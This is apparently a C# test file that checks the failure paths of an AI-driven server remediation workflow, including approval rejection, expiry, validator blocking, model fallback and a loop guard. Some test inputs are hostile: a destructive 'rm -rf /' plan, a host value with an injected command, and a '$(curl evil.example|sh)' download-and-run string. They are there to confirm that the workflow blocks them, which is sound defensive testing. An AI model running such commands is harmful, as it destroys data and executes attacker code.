using AeonNova.Approvals;
using AeonNova.Core.Alerts;
using AeonNova.Core.Ports;
using AeonNova.Testing;
using AeonNova.Local.Workflow;
using AeonNova.StepFunctions;

namespace AeonNova.Workflow.Tests.Workflow;

/// <summary>The paths that end without a verified fix, and the analysis fallbacks; each asserts history and final output.</summary>
public sealed class RemediationFailurePathTests
{
    private static readonly string[] Head = ["RecordReceived", "Enrich", "LoopGuard", "BuildAnalysisRequest", "ChooseAnalyzer"];
    private static readonly string[] Tail = ["RecordOutcome", "CloseOut", "RouteOutcome"];
    private static readonly string[] Approval = ["PrepareApproval", "ApprovalStillNeeded", "RecordAwaitingApproval", "WaitForApproval"];
    private static readonly string[] DiagnosticRun =
        ["CheckBeforeAutoRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished", "MarkDiagnosed", "RecordOutcome", "CloseOut", "RouteOutcome", "Diagnosed"];

    [Fact]
    public async Task Run_WhenApproverRejects_ShouldEndRejectedWithoutRunningAnything()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
        var arn = await h.StartAsync(WorkflowHarness.Alert());

        await h.DecideAsync(await h.WaitForApprovalEmailAsync(), DecisionOutcome.Rejected);
        var execution = await h.WaitAsync(arn);

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.Rejected", execution.Error);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", .. Approval, "ApprovalDecision", "MarkRejected", .. Tail, "Rejected"],
            await h.PathAsync(arn));
        Assert.Empty(h.Executor.Sent);
        var record = Assert.Single(h.Executions.All());
        Assert.Equal("rejected", record.Status);
        Assert.False(record.Executed);
    }

    [Fact]
    public async Task Run_WhenNobodyDecides_ShouldEscalateOnceThenExpire()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
        var arn = await h.StartAsync(WorkflowHarness.Alert());

        var first = await h.WaitForApprovalEmailAsync(1);
        var firstRecord = await h.Approvals.GetAsync(first.ApprovalId, CancellationToken.None);
        Assert.Equal(1800, (int)(firstRecord!.ExpiresAt - firstRecord.CreatedAt).TotalSeconds);
        h.Clock.Advance(TimeSpan.FromSeconds(1801));
        var second = await h.WaitForApprovalEmailAsync(2);
        Assert.Equal(first.ApprovalId, second.ApprovalId);
        Assert.Contains("lead@example.com", (await h.Approvals.GetAsync(second.ApprovalId, CancellationToken.None))!.Links.Where(l => l.Active).Select(l => l.Approver.Email));
        h.Clock.Advance(TimeSpan.FromSeconds(1801));
        var execution = await h.WaitAsync(arn);

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.Expired", execution.Error);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", .. Approval,
             "Escalate", "CheckEscalation", "RecordAwaitingApproval", "WaitForApproval",
             "Escalate", "CheckEscalation", "MarkExpired", .. Tail, "Expired"],
            await h.PathAsync(arn));
        var history = await h.HistoryAsync(arn);
        Assert.Equal(2, history.Count(e => e.Type == HistoryEventType.TaskTimedOut));
        Assert.Equal(ApprovalStatus.Expired, (await h.Approvals.GetAsync(first.ApprovalId, CancellationToken.None))!.Status);
        Assert.Empty(h.Executor.Sent);
        Assert.Equal("expired", Assert.Single(h.Executions.All()).Status);
    }

    [Fact]
    public async Task Run_WhenValidatorBlocks_ShouldEndBlockedWithoutApprovalOrExecution()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan("rm -rf / --no-preserve-root\n"));

        var execution = await h.RunAsync(WorkflowHarness.Alert());

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.Blocked", execution.Error);
        Assert.Equal([.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkBlocked", .. Tail, "Blocked"], await h.PathAsync(execution.ExecutionArn));
        Assert.Empty(h.Executor.Sent);
        Assert.Empty(h.Outbox.Messages);
        var record = Assert.Single(h.Executions.All());
        Assert.Equal("blocked", record.Status);
        Assert.Contains("\"verdict\":\"block\"", System.Text.Encoding.UTF8.GetString(h.Audit.Get(record.ExecutionId)!), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Run_WhenModelIsThrottledOnce_ShouldRetryAndUseTheModelPlan()
    {
        await using var h = new WorkflowHarness();
        h.Model.Fails("Bedrock.ThrottlingException", "Too many requests").Returns(WorkflowHarness.ModelPlan(WorkflowHarness.DiagnosticScript, needsHuman: true, risk: "low"));

        var execution = await h.RunAsync(WorkflowHarness.Alert());

        Assert.Equal(ExecutionStatus.Succeeded, execution.Status);
        Assert.Equal([.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", .. DiagnosticRun], await h.PathAsync(execution.ExecutionArn));
        var history = await h.HistoryAsync(execution.ExecutionArn);
        var analyzeFailures = history.Where(e => e.Type == HistoryEventType.TaskFailed).ToList();
        Assert.Equal("Bedrock.ThrottlingException", Assert.Single(analyzeFailures).Error);
        Assert.Equal(2, h.Model.Calls);
        var output = WorkflowHarness.Output(execution);
        Assert.Equal("amazon.nova-pro-v1:0", (string?)output["plan"]!["model"]);
        Assert.Null(output["analysisError"]);
    }

    [Fact]
    public async Task Run_WhenModelFails_ShouldPlanWithTheBuiltinPlanner()
    {
        await using var h = new WorkflowHarness();
        h.Model.Fails("Bedrock.AccessDeniedException", "model access not granted");

        var execution = await h.RunAsync(UnknownAlert());

        Assert.Equal(ExecutionStatus.Succeeded, execution.Status);
        Assert.Equal([.. Head, "Analyze", "PlanWithBuiltinPlanner", "ValidateScript", "SafetyDecision", .. DiagnosticRun], await h.PathAsync(execution.ExecutionArn));
        Assert.Equal(1, h.Model.Calls);
        var output = WorkflowHarness.Output(execution);
        Assert.StartsWith("builtin-planner@", (string?)output["plan"]!["model"], StringComparison.Ordinal);
        Assert.Contains("Bedrock.AccessDeniedException", (string?)output["plan"]!["fallbackReason"], StringComparison.Ordinal);
        Assert.Equal("Bedrock.AccessDeniedException", (string?)output["analysisError"]!["Error"]);
    }

    [Fact]
    public async Task Run_WhenModelOutputIsInvalid_ShouldPlanWithTheBuiltinPlanner()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns("""{"output":{"message":{"role":"assistant","content":[{"text":"Sorry, I cannot produce a plan."}]}},"stopReason":"end_turn"}""");

        var execution = await h.RunAsync(UnknownAlert());

        Assert.Equal(ExecutionStatus.Succeeded, execution.Status);
        Assert.Equal([.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "PlanWithBuiltinPlanner", "ValidateScript", "SafetyDecision", .. DiagnosticRun], await h.PathAsync(execution.ExecutionArn));
        var parseFailure = Assert.Single(await h.HistoryAsync(execution.ExecutionArn), e => e.Type is HistoryEventType.LambdaFunctionFailed or HistoryEventType.TaskFailed);
        Assert.Equal(nameof(PlanRejectedException), parseFailure.Error);
        var output = WorkflowHarness.Output(execution);
        Assert.StartsWith("builtin-planner@", (string?)output["plan"]!["model"], StringComparison.Ordinal);
        Assert.Contains("output rejected", (string?)output["plan"]!["fallbackReason"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Run_WhenCommandFails_ShouldEndRemediationFailed()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.DiagnosticScript, needsHuman: true, risk: "low"));
        h.Executor.Result = new CommandInvocation("Failed", 2, "", "df: /: No such file or directory");

        var execution = await h.RunAsync(WorkflowHarness.Alert());

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.CommandFailed", execution.Error);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "CheckBeforeAutoRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
             "MarkCommandFailed", .. Tail, "RemediationFailed"],
            await h.PathAsync(execution.ExecutionArn));
        var record = Assert.Single(h.Executions.All());
        Assert.Equal("remediation-failed", record.Status);
        Assert.Equal("Failed", record.CommandStatus);
        Assert.True(record.Executed);
    }

    [Fact]
    public async Task Run_WhenVerificationNeverSucceeds_ShouldRecheckBoundedThenEndVerificationFailed()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript, risk: "low"));
        h.Executor.Result = new CommandInvocation("Success", 0, "Vacuuming done\n", "");
        var arn = await h.StartAsync(WorkflowHarness.Alert());

        await h.DecideAsync(await h.WaitForApprovalEmailAsync(), DecisionOutcome.Approved);
        var execution = await h.WaitAsync(arn);

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.VerificationFailed", execution.Error);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", .. Approval, "ApprovalDecision",
             "CheckBeforeApprovedRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
             "StartVerification", "Verify", "VerificationResult", "WaitBeforeReverify", "Verify", "VerificationResult", "WaitBeforeReverify",
             "Verify", "VerificationResult", "RollbackAvailable", "MarkVerificationFailed", .. Tail, "VerificationFailed"],
            await h.PathAsync(arn));
        var record = Assert.Single(h.Executions.All());
        Assert.Equal("verification-failed", record.Status);
        Assert.True(record.Executed);
        Assert.Single(h.Executor.Sent);
    }

    [Fact]
    public async Task Run_WhenAlertNamesNoHost_ShouldEndNoTargetWithoutRunningOrAskingForApproval()
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
        var alert = WorkflowHarness.Alert() with { Host = "", Labels = new Dictionary<string, string>() };

        var execution = await h.RunAsync(alert);

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.NoTarget", execution.Error);
        Assert.Contains("names no host or instance", execution.Cause, StringComparison.Ordinal);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkNoTarget", .. Tail, "NoTarget"],
            await h.PathAsync(execution.ExecutionArn));
        Assert.Empty(h.Executor.Sent);
        Assert.Equal("no-target", Assert.Single(h.Executions.All()).Status);
    }

    [Theory]
    [InlineData("", "web-3;rm -rf /")]
    [InlineData("$(curl evil.example|sh)", null)]
    public async Task Run_WhenAlertTargetIsInvalid_ShouldEndInvalidTargetWithoutRunning(string instanceLabel, string? invalidHost)
    {
        await using var h = new WorkflowHarness();
        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
        var labels = instanceLabel.Length > 0 ? new Dictionary<string, string> { ["instance_id"] = instanceLabel } : new Dictionary<string, string>();
        var alert = WorkflowHarness.Alert() with
        {
            Host = invalidHost is null ? WorkflowHarness.Alert().Host : "",
            InvalidTarget = invalidHost is null ? null : "host is not a DNS name, IP address or cloud instance id (character ';' at position 6)",
            Labels = labels,
        };

        var execution = await h.RunAsync(alert);

        Assert.Equal("Remediation.InvalidTarget", execution.Error);
        Assert.Contains("not a DNS name, IP address or cloud instance id", execution.Cause, StringComparison.Ordinal);
        Assert.Equal(
            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkInvalidTarget", .. Tail, "InvalidTarget"],
            await h.PathAsync(execution.ExecutionArn));
        Assert.Empty(h.Executor.Sent);
    }

    [Fact]
    public async Task Run_WhenFingerprintWasRemediatedTooOften_ShouldHandToAHumanAtTheLoopGuard()
    {
        await using var h = new WorkflowHarness();
        var alert = WorkflowHarness.Alert();
        for (var i = 0; i < 3; i++)
        {
            await h.Executions.PutAsync(new ExecutionRecord
            {
                ExecutionId = $"earlier-{i}",
                Fingerprint = alert.Fingerprint,
                AlertId = $"a{i}",
                Host = alert.Host,
                Status = "remediated",
                Executed = true,
                StartedAt = h.Clock.GetUtcNow().AddHours(-i - 1),
            });
        }

        var execution = await h.RunAsync(alert);

        Assert.Equal(ExecutionStatus.Failed, execution.Status);
        Assert.Equal("Remediation.LoopGuard", execution.Error);
        Assert.Equal("3 remediations of this alert already ran in the last 1440 minutes (limit 3): the fix does not hold. Nothing ran; a human must find the cause.", execution.Cause);
        Assert.Equal(["RecordReceived", "Enrich", "LoopGuard", "MarkLoopGuardTripped", .. Tail, "LoopGuardTripped"], await h.PathAsync(execution.ExecutionArn));
        Assert.Equal(0, h.Model.Calls);
        Assert.Empty(h.Executor.Sent);
        var record = h.Executions.All().Single(r => !r.ExecutionId.StartsWith("earlier-", StringComparison.Ordinal));
        Assert.Equal("loop-guard", record.Status);
        Assert.Equal("loop-guard", record.Reason);
    }

    private static CanonicalAlert UnknownAlert() => WorkflowHarness.Alert() with
    {
        Title = "Quantum flux capacitor drift",
        Description = "The widget frobnicator reports drift.",
        Labels = new Dictionary<string, string> { ["alertname"] = "FluxDrift" },
    };
}
